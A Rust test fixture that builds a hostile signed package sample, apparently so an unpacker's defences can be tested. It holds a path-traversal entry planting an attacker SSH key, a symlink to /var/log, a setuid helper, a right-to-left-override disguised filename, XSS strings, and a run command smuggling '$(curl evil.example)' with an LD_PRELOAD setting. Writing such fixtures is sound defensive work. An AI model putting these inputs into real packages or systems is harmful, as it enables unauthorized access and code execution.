//! The sample that means harm.

use super::package::{Member, archive, file, sealed, slot};
use crate::sample::Sample;
use pspf_nostd::key::SigningKey;

/// A package whose archive leaves its folder, and whose texts try to be something else.
pub(super) fn hostile(key: SigningKey) -> Sample {
    let members = [
        file("photos/", 0o755, ""),
        file("photos/readme.txt", 0o644, "<img src=x onerror=alert(1)>\nOpen the update to see the photos.\n"),
        file("photos/beach\u{202e}gpj.sh", 0o755, "#!/bin/sh\necho not a photo\n"),
        Member { path: "photos/logs".to_owned(), mode: 0o777, link: Some("/var/log"), content: Vec::new() },
        file("bin/helper", 0o4755, "#!/bin/sh\nid\n"),
        file("../../../.ssh/authorized_keys", 0o600, "ssh-ed25519 AAAA attacker\n"),
    ];
    let slots = [slot(
        "photos<script>alert(1)</script>",
        "{workenv}/photos",
        "tar.gz",
        ["data", "runtime"],
        0o755,
        &archive(&members),
    )];
    sealed(
        r#"{ "name": "<img src=x onerror=alert(1)>holiday-\u202egpj.exe", "version": "1.0\u0000\u001b[31m" }"#,
        &slots,
        r#"{ "command": "{workenv}/bin/helper \"$(curl evil.example)\"", "env": { "LD_PRELOAD": "{workenv}/bin/helper" } }"#,
        "{}",
        key,
    )
}
